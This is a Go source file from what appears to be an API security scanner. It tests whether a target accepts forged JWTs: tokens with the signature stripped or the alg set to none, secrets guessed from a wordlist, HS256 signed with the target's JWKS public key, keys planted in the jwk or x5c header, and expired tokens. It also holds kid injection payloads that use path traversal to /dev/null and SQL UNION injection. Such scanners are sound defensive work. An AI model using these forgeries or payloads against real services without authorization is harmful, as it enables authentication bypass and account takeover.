package scan

import (
	"bufio"
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"crypto/x509/pkix"
	_ "embed"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash"
	"math/big"
	"net/url"
	"strings"
	"time"
)

//go:embed jwt-secrets.txt
var jwtSecretList string

// jwtSecrets returns the bundled word list of common HMAC secrets.
func jwtSecrets() []string {
	var out []string
	sc := bufio.NewScanner(strings.NewReader(jwtSecretList))
	for sc.Scan() {
		l := strings.TrimRight(sc.Text(), "\r")
		if l == "" || strings.HasPrefix(l, "#") {
			continue
		}
		out = append(out, l)
	}
	return out
}

func b64(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

func seg(v any) string {
	b, _ := json.Marshal(v)
	return b64(b)
}

func copyMap(m map[string]any, kv ...any) map[string]any {
	out := map[string]any{}
	for k, v := range m {
		out[k] = v
	}
	for i := 0; i+1 < len(kv); i += 2 {
		k := kv[i].(string)
		if kv[i+1] == nil {
			delete(out, k)
		} else {
			out[k] = kv[i+1]
		}
	}
	return out
}

func hmacHash(alg string) func() hash.Hash {
	switch alg {
	case "HS384":
		return sha512.New384
	case "HS512":
		return sha512.New
	}
	return sha256.New
}

// signHS signs a token with HMAC; alg HS256/384/512.
func signHS(alg string, key []byte, hdr, claims map[string]any) string {
	h := copyMap(hdr, "alg", alg)
	in := seg(h) + "." + seg(claims)
	m := hmac.New(hmacHash(alg), key)
	m.Write([]byte(in))
	return in + "." + b64(m.Sum(nil))
}

// probeTarget is the endpoint the token checks present forged tokens to:
// it answers 2xx to a valid token and refuses none and garbage.
type probeTarget struct {
	path, label string
	as          *principal
}

func (s *scanner) probeEndpoint(ctx context.Context) (*probeTarget, error) {
	if s.probe != nil {
		return s.probe, nil
	}
	var as *principal
	if len(s.principals) > 0 {
		as = s.principals[0]
	} else if s.admin != nil {
		as = s.admin
	}
	if as == nil {
		return nil, nil
	}
	tried := 0
	for pass := 0; pass < 2 && tried < 6; pass++ {
		for _, op := range s.doc.ops {
			if op.method != "GET" || op.public || op.html || (op.admin && !as.admin) || !as.hasScopes(op.scopes) {
				continue
			}
			if (pass == 0) != (len(op.pathParams()) == 0) {
				continue // first pass: no path parameters
			}
			if tried++; tried > 6 {
				break
			}
			p, _, ok, err := s.objectPath(ctx, as, op)
			if err != nil {
				return nil, err
			}
			if !ok {
				continue
			}
			if q := requiredQuery(op); len(q) > 0 {
				p += "?" + q.Encode()
			}
			r, err := s.do(ctx, req{method: "GET", path: p, as: as, op: op.label()})
			if err != nil {
				return nil, err
			}
			if !r.ok() {
				continue
			}
			r0, err := s.do(ctx, req{method: "GET", path: p, op: op.label()})
			if err != nil {
				return nil, err
			}
			if r0.ok() {
				continue // answers without credentials: proves nothing
			}
			s.probe = &probeTarget{path: p, label: op.label(), as: as}
			return s.probe, nil
		}
	}
	return nil, nil
}

// accepted presents tok to the probe endpoint.
func (s *scanner) accepted(ctx context.Context, pt *probeTarget, tok string) (bool, *resp, error) {
	r, err := s.do(ctx, req{method: "GET", path: pt.path, token: tok, op: pt.label})
	if err != nil {
		return false, nil, err
	}
	return r.ok(), r, nil
}

// forger signs claims with a method the target accepted.
type forger struct {
	how  string
	sign func(claims map[string]any) string
}

func (s *scanner) checkJWT(ctx context.Context) error {
	pt, err := s.probeEndpoint(ctx)
	if err != nil {
		return err
	}
	if pt == nil {
		s.note("JWT checks skipped: no protected GET operation answered the given credentials")
		return nil
	}
	hdr, claims, ok := jwtParts(pt.as.token)
	if !ok {
		s.note("JWT checks skipped: the access token of %s is not a JWT", pt.as.label)
		return nil
	}
	parts := strings.Split(pt.as.token, ".")
	alg, _ := hdr["alg"].(string)
	var forgers []forger
	try := func(id, what string, tok string) (bool, error) {
		ok, r, err := s.accepted(ctx, pt, tok)
		if err != nil || !ok {
			return false, err
		}
		s.report(id, pt.label, "Authorization", what+" was accepted\n"+excerpt(r))
		return true, nil
	}

	// When signatures are not verified at all, every forgery below
	// would pass: only that root cause is reported (the claims checks
	// still run, with the tampered token).
	unverified := false
	// tampered payload, original signature; and the signature removed
	{
		c := copyMap(claims, "fortapi_scan", randHex(4))
		ok, err := try("JWT-SIGNATURE-NOT-VERIFIED", "a token whose payload was changed after signing (a claim added, the original signature kept)", parts[0]+"."+seg(c)+"."+parts[2])
		if err != nil {
			return err
		}
		if !ok {
			ok, err = try("JWT-SIGNATURE-NOT-VERIFIED", "a token without its signature (original header and claims)", parts[0]+"."+parts[1]+".")
			if err != nil {
				return err
			}
		}
		if ok {
			forgers = append(forgers, forger{"a wrong signature", func(c map[string]any) string { return parts[0] + "." + seg(c) + "." + parts[2] }})
			unverified = true
		}
	}
	// alg none
	if !unverified {
		for _, a := range []string{"none", "None", "NONE", "nOnE"} {
			h := copyMap(hdr, "alg", a)
			ok, err := try("JWT-ALG-NONE", fmt.Sprintf("an unsigned token (alg %q, the original claims)", a), seg(h)+"."+parts[1]+".")
			if err != nil {
				return err
			}
			if ok {
				forgers = append(forgers, forger{"alg " + a, func(c map[string]any) string { return seg(h) + "." + seg(c) + "." }})
				break
			}
		}
	}
	// weak HMAC secret, offline
	if strings.HasPrefix(alg, "HS") {
		in := parts[0] + "." + parts[1]
		sig, _ := base64.RawURLEncoding.DecodeString(parts[2])
		for _, w := range jwtSecrets() {
			m := hmac.New(hmacHash(alg), []byte(w))
			m.Write([]byte(in))
			if hmac.Equal(m.Sum(nil), sig) {
				s.report("JWT-WEAK-SECRET", "", alg, fmt.Sprintf("the %s signature of %s's token verifies with the common secret %q (found offline in the bundled word list)", alg, pt.as.label, mask(w)))
				key := []byte(w)
				forgers = append([]forger{{"the weak secret", func(c map[string]any) string { return signHS(alg, key, hdr, c) }}}, forgers...)
				break
			}
		}
	}
	// algorithm confusion: HS256 keyed with each JWKS public key
	if !strings.HasPrefix(alg, "HS") && alg != "" && !unverified {
		keys, src, err := s.jwks(ctx)
		if err != nil {
			return err
		}
		if len(keys) == 0 {
			s.note("JWT-ALG-CONFUSION not tested: no JWKS found (/.well-known/jwks.json, /jwks.json, openid-configuration)")
		}
	confusion:
		for _, k := range keys {
			for _, secret := range k.secrets {
				h := copyMap(hdr, "alg", "HS256", "kid", k.kid)
				if k.kid == "" {
					h = copyMap(hdr, "alg", "HS256")
				}
				tok := signHS("HS256", secret, h, claims)
				ok, err := try("JWT-ALG-CONFUSION", fmt.Sprintf("a token signed with HS256 keyed with the public key %q of %s (%s)", k.kid, src, k.form), tok)
				if err != nil {
					return err
				}
				if ok {
					key := secret
					forgers = append([]forger{{"HS256 with the public key", func(c map[string]any) string { return signHS("HS256", key, h, c) }}}, forgers...)
					break confusion
				}
			}
		}
	}
	// kid injection
	for _, v := range kidInjections() {
		if unverified {
			break
		}
		hsAlg := alg
		if !strings.HasPrefix(hsAlg, "HS") {
			hsAlg = "HS256"
		}
		h := copyMap(hdr, "kid", v.kid)
		tok := signHS(hsAlg, v.key, h, claims)
		ok, err := try("JWT-KID-INJECTION", fmt.Sprintf("a token with kid %q signed %s with the key that kid selects (%q)", v.kid, hsAlg, string(v.key)), tok)
		if err != nil {
			return err
		}
		if ok {
			key := v.key
			forgers = append(forgers, forger{"kid " + v.kid, func(c map[string]any) string { return signHS(hsAlg, key, h, c) }})
			break
		}
	}
	// keys in the header: jwk and x5c of the scan's own key
	if !unverified {
		f, err := s.headerKeyForgeries(ctx, pt, hdr, claims)
		if err != nil {
			return err
		}
		if f != nil {
			forgers = append(forgers, *f)
		}
	}
	// expired and not-yet-valid tokens, with a method that works
	if len(forgers) == 0 {
		s.note("JWT-EXPIRED-ACCEPTED and JWT-NBF-IGNORED not tested: the scan found no way to sign a token the target accepts (expected of a secure target)")
		return nil
	}
	f := forgers[0]
	now := s.clock.Now().Unix()
	if s.anyEnabled("JWT-EXPIRED-ACCEPTED", "JWT-NBF-IGNORED") {
		fresh := copyMap(claims, "iat", now-10, "exp", now+600, "nbf", nil)
		if ok, _, err := s.accepted(ctx, pt, f.sign(fresh)); err != nil {
			return err
		} else if !ok {
			s.note("JWT-EXPIRED-ACCEPTED not tested: a fresh token signed with %s was refused", f.how)
			return nil
		}
		exp := copyMap(claims, "iat", now-7200, "exp", now-3600, "nbf", nil)
		if _, err := try("JWT-EXPIRED-ACCEPTED", fmt.Sprintf("a token that expired an hour ago (signed with %s; a fresh one with the same signing is accepted)", f.how), f.sign(exp)); err != nil {
			return err
		}
		nbf := copyMap(claims, "iat", now, "nbf", now+3600, "exp", now+7200)
		if _, err := try("JWT-NBF-IGNORED", fmt.Sprintf("a token valid only in an hour (nbf; signed with %s; a fresh one with the same signing is accepted)", f.how), f.sign(nbf)); err != nil {
			return err
		}
	}
	return nil
}

// headerKeyForgeries signs with a fresh key published in the token's own
// header (jwk, x5c).
func (s *scanner) headerKeyForgeries(ctx context.Context, pt *probeTarget, hdr, claims map[string]any) (*forger, error) {
	rk := s.opts.forgeryKey
	if rk == nil {
		var err error
		if rk, err = rsa.GenerateKey(rand.Reader, 2048); err != nil {
			return nil, err
		}
	}
	ek, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	rsaJWK := map[string]any{"kty": "RSA", "n": b64(rk.N.Bytes()), "e": b64(big.NewInt(int64(rk.E)).Bytes()), "kid": "fortapi-scan", "alg": "RS256", "use": "sig"}
	ecPub, err := ek.PublicKey.Bytes() // 0x04 || X || Y
	if err != nil {
		return nil, err
	}
	ecJWK := map[string]any{"kty": "EC", "crv": "P-256", "x": b64(ecPub[1:33]), "y": b64(ecPub[33:]), "kid": "fortapi-scan", "alg": "ES256", "use": "sig"}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "fortapi-scan"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour)}
	certDER, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &rk.PublicKey, rk)
	if err != nil {
		return nil, err
	}
	signRS := func(h, c map[string]any) string {
		in := seg(h) + "." + seg(c)
		d := sha256.Sum256([]byte(in))
		sig, _ := rsa.SignPKCS1v15(rand.Reader, rk, crypto.SHA256, d[:])
		return in + "." + b64(sig)
	}
	signES := func(h, c map[string]any) string {
		in := seg(h) + "." + seg(c)
		d := sha256.Sum256([]byte(in))
		r, ss, _ := ecdsa.Sign(rand.Reader, ek, d[:])
		return in + "." + b64(append(pad32(r.Bytes()), pad32(ss.Bytes())...))
	}
	for _, v := range []struct {
		what string
		h    map[string]any
		sign func(h, c map[string]any) string
	}{
		{"an RS256 token signed with the scan's key, given in the jwk header", copyMap(hdr, "alg", "RS256", "kid", "fortapi-scan", "jwk", rsaJWK), signRS},
		{"an ES256 token signed with the scan's key, given in the jwk header", copyMap(hdr, "alg", "ES256", "kid", "fortapi-scan", "jwk", ecJWK), signES},
		{"an RS256 token signed with the scan's key, its self-signed certificate in the x5c header", copyMap(hdr, "alg", "RS256", "kid", "fortapi-scan", "x5c", []string{base64.StdEncoding.EncodeToString(certDER)}), signRS},
	} {
		ok, r, err := s.accepted(ctx, pt, v.sign(v.h, claims))
		if err != nil {
			return nil, err
		}
		if ok {
			s.report("JWT-HEADER-KEY-TRUST", pt.label, "Authorization", v.what+" was accepted\n"+excerpt(r))
			h, sign := v.h, v.sign
			return &forger{"the header key", func(c map[string]any) string { return sign(h, c) }}, nil
		}
	}
	return nil, nil
}

func pad32(b []byte) []byte {
	if len(b) >= 32 {
		return b
	}
	return append(make([]byte, 32-len(b)), b...)
}

// jwkKey is a public key of the target's JWKS in the forms an HMAC
// confusion might use as a secret.
type jwkKey struct {
	kid     string
	form    string
	secrets [][]byte
}

// jwks finds and reads the target's JWKS.
func (s *scanner) jwks(ctx context.Context) ([]jwkKey, string, error) {
	var cands []string
	for _, op := range s.doc.ops {
		if op.method == "GET" && op.public && strings.Contains(strings.ToLower(op.path), "jwks") {
			cands = append(cands, op.path)
		}
	}
	cands = append(cands, "/.well-known/jwks.json", "/jwks.json", "/.well-known/openid-configuration")
	seen := map[string]bool{}
	for _, c := range cands {
		if seen[c] {
			continue
		}
		seen[c] = true
		r, err := s.do(ctx, req{method: "GET", path: c})
		if err != nil {
			return nil, "", err
		}
		if !r.ok() {
			continue
		}
		var doc struct {
			Keys    []map[string]any `json:"keys"`
			JWKSURI string           `json:"jwks_uri"`
		}
		if json.Unmarshal(r.body, &doc) != nil {
			continue
		}
		if doc.JWKSURI != "" {
			if u, err := url.Parse(doc.JWKSURI); err == nil && (!u.IsAbs() || s.sameOrigin(u)) && !seen[u.RequestURI()] {
				cands = append(cands, u.RequestURI())
			}
			continue
		}
		var keys []jwkKey
		for _, k := range doc.Keys {
			if jk, ok := parseJWK(k); ok {
				keys = append(keys, jk)
			}
		}
		if len(keys) > 0 {
			return keys, c, nil
		}
	}
	return nil, "", nil
}

func parseJWK(k map[string]any) (jwkKey, bool) {
	str := func(n string) []byte {
		v, _ := k[n].(string)
		b, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(v, "="))
		if err != nil {
			return nil
		}
		return b
	}
	kid, _ := k["kid"].(string)
	var pub any
	var pkcs1 []byte
	switch k["kty"] {
	case "RSA":
		n, e := str("n"), str("e")
		if len(n) == 0 || len(e) == 0 {
			return jwkKey{}, false
		}
		rp := &rsa.PublicKey{N: new(big.Int).SetBytes(n), E: int(new(big.Int).SetBytes(e).Int64())}
		pub = rp
		pkcs1 = pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(rp)})
	case "EC":
		x, y := str("x"), str("y")
		var c elliptic.Curve
		switch k["crv"] {
		case "P-256":
			c = elliptic.P256()
		case "P-384":
			c = elliptic.P384()
		case "P-521":
			c = elliptic.P521()
		default:
			return jwkKey{}, false
		}
		size := (c.Params().BitSize + 7) / 8
		if len(x) != size || len(y) != size {
			return jwkKey{}, false
		}
		ep, err := ecdsa.ParseUncompressedPublicKey(c, append(append([]byte{4}, x...), y...))
		if err != nil {
			return jwkKey{}, false
		}
		pub = ep
	case "OKP":
		x := str("x")
		if len(x) != ed25519.PublicKeySize {
			return jwkKey{}, false
		}
		pub = ed25519.PublicKey(x)
	default:
		return jwkKey{}, false
	}
	der, err := x509.MarshalPKIXPublicKey(pub)
	if err != nil {
		return jwkKey{}, false
	}
	p := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	secrets := [][]byte{p, []byte(strings.TrimSpace(string(p))), der}
	if pkcs1 != nil {
		secrets = append(secrets, pkcs1)
	}
	if x, ok := pub.(ed25519.PublicKey); ok {
		secrets = append(secrets, []byte(x))
	}
	return jwkKey{kid: kid, form: "PEM, PEM without newline, DER", secrets: secrets}, true
}

// kidInjection is a kid value and the key it makes a vulnerable server use.
type kidInjection struct {
	kid string
	key []byte
}

func kidInjections() []kidInjection {
	return []kidInjection{
		{"../../../../../../../../../../dev/null", nil},
		{"/dev/null", nil},
		{"../../../../../../../../../../dev/null\x00", nil},
		{"fortapi-scan' UNION SELECT 'fortapiscankey' -- ", []byte("fortapiscankey")},
		{"fortapi-scan' UNION SELECT 'fortapiscankey'; --", []byte("fortapiscankey")},
		{"fortapi-scan\" UNION SELECT \"fortapiscankey\" -- ", []byte("fortapiscankey")},
	}
}
